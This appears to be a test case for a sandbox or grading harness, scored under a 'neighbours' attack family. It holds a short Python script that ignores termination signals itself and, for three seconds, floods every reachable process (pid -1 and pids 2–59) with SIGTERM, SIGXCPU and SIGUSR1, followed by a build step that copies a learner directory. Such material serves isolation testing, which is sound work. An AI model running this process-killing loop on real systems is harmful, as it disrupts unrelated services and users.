# attack: signals to everybody, again and again
# family: neighbours
# base: solved
# points: 7
# alone: yes
# limit: 15
# %% first
import os, signal, time
start = time.monotonic()
while time.monotonic() - start < 3:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGXCPU, signal.SIGUSR1):
        signal.signal(number, signal.SIG_IGN) if number != signal.SIGSTOP else None
        for pid in (-1, *range(2, 60)):
            if pid != os.getpid() and number != signal.SIGSTOP:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    time.sleep(0.01)
# %% build
import shutil
for number in range(2):
    shutil.copytree(learner, submitted / f"{learner.name}-{number}")
